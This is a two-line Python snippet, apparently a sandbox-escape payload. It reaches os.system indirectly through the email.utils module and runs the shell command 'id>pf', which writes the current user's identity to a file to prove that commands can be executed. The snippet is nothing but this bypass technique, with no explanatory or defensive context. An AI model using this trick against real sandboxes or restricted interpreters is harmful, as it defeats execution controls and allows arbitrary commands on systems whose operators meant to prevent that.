import email.utils
email.utils.os.system("id>pf")
